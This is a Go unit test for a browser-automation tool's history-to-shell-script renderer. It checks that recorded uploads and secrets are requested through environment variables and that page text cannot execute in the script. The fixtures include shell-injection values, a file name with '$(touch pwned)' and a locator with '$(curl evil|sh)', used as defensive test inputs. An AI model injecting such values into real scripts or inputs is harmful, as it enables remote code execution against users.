package historyscript

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/loupe-dev/loupe/internal/ops"
	"github.com/loupe-dev/loupe/internal/wire"
)

// TestHistoryScriptAsksForUploadsAndKeepsPagesOut: an upload the CLI sent
// is replayed with the files asked for by variable (their bytes and paths
// were never kept), and nothing a page or a file name wrote can run in
// the script: the shell expands $, ` and \ in the messages that ask.
func TestHistoryScriptAsksForUploadsAndKeepsPagesOut(t *testing.T) {
	h := &ops.HistoryOut{Operations: []wire.Operation{
		{ID: "op-1", Op: "upload", State: "executed", Locator: `role=button[name="CV"]`,
			Input: json.RawMessage(`{"ref":"e1","contents":[{"name":"cv.pdf","size":4},{"name":"$(touch pwned)` + "`x`" + `.pdf","size":1}]}`)},
		{ID: "op-2", Op: "fill", State: "executed", Locator: `role=textbox[name="$(curl evil|sh)"]`,
			Input: json.RawMessage(`{"ref":"e2","text":"","secret":true}`)},
	}}
	script := Render(ops.New(), h)
	for _, want := range []string{
		`: "${LOUPE_UPLOAD_1:?set LOUPE_UPLOAD_1 to the path of the file uploaded as cv.pdf}"`,
		`upload 'role=button[name="CV"]' "$LOUPE_UPLOAD_1" "$LOUPE_UPLOAD_2"`,
		`: "${LOUPE_SECRET_1:?set LOUPE_SECRET_1 to the secret typed into role=textbox[name=__(curl evil_sh)_]}"`,
	} {
		if !strings.Contains(script, want) {
			t.Errorf("script lacks %q:\n%s", want, script)
		}
	}
	for _, l := range strings.Split(script, "\n") {
		if strings.HasPrefix(l, ": ") && (strings.Contains(l, "$(") || strings.Contains(l, "`")) {
			t.Errorf("a page's text can run in the script: %s", l)
		}
	}
}
